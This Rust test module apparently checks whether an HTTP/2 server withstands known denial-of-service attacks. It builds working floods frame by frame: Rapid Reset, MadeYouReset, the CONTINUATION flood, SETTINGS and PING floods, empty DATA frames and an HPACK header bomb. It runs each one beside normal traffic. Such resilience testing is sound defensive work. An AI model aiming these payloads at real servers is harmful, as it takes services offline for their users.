//! Attacks of HTTP/2 by many frames, or by few that mean much.

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, request,
};
use crate::judge;
use crate::load::Client;

/// Connections, and frames or requests a second.
const CONNECTIONS: usize = 4;
const RATE: usize = 4000;

/// The stream of a connection's request of this number.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

fn client(opening: &[u8], action: impl FnMut(u32) -> Vec<u8> + Send + 'static) -> Client {
    Client { opening: [PREFACE, opening].concat(), action: Box::new(action), reads: true }
}

fn get(number: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &request("GET", "/"))
}

/// Requests, one an action.
fn requests() -> Client {
    client(&[], get)
}

/// The beginning of a request with a body that never ends.
fn post() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &request("POST", "/"))
}

/// CVE-2023-44487.
#[test]
fn rapid_reset() {
    let attack = || {
        client(&[], |number| {
            [get(number), frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes())].concat()
        })
    };
    judge("rapid reset", attack, requests, CONNECTIONS, RATE);
}

/// CVE-2025-8671: a window that is too large has the server reset.
#[test]
fn made_you_reset() {
    let attack = || {
        client(&[], |number| {
            [get(number), frame(WINDOW_UPDATE, 0, stream(number), &0x7fff_ffff_u32.to_be_bytes())].concat()
        })
    };
    judge("made you reset", attack, requests, CONNECTIONS, RATE);
}

/// CVE-2024-27316: a head that never ends.
#[test]
fn continuation() {
    let attack = || {
        let begun = frame(HEADERS, END_STREAM, 1, &request("GET", "/"));
        client(&begun, |_| frame(CONTINUATION, 0, 1, &b"\x00\x01x\x01y".repeat(20)))
    };
    judge("CONTINUATION flood", attack, requests, CONNECTIONS, RATE);
}

/// CVE-2019-9515 and CVE-2019-9512: each has to be acknowledged.
#[test]
fn settings_and_pings() {
    judge("SETTINGS flood", || client(&[], |_| frame(SETTINGS, 0, 0, &[])), requests, CONNECTIONS, RATE);
    judge("PING flood", || client(&[], |_| frame(PING, 0, 0, &[7; 8])), requests, CONNECTIONS, RATE);
}

/// The same from one who does not read the acknowledgements.
#[test]
fn unread_acknowledgements() {
    let attack = || Client { reads: false, ..client(&[], |_| frame(PING, 0, 0, &[7; 8])) };
    judge("PING flood, unread", attack, requests, CONNECTIONS, RATE);
}

/// CVE-2019-9518: frames of a body that bring nothing.
#[test]
fn empty_data() {
    let attack = || client(&post(), |_| frame(DATA, 0, 1, &[]));
    judge("empty DATA frames", attack, requests, CONNECTIONS, RATE);
}

/// A field of 4,000 bytes, and a thousand references to it in each head: 4 MB a head (RFC 7541 §7.1.3).
#[test]
fn header_bomb() {
    let attack = || {
        client(&[], |number| {
            let mut block = request("GET", "/");
            if number == 0 {
                // Indexed: the name "x", and a value whose length takes three bytes (RFC 7541 §5.1, §6.2.1).
                block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
                block.extend([b'v'; 4000]);
            }
            block.extend([0x80 | 62; 1000]);
            frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block)
        })
    };
    let harmless = || {
        client(&[], |number| {
            let mut block = request("GET", "/");
            block.extend([0, 1, b'x', 0x7f, 0x81, 0x07]);
            block.extend([b'v'; 1024]);
            frame(HEADERS, END_STREAM | END_HEADERS, stream(number), &block)
        })
    };
    judge("header bomb", attack, harmless, CONNECTIONS, RATE / 4);
}
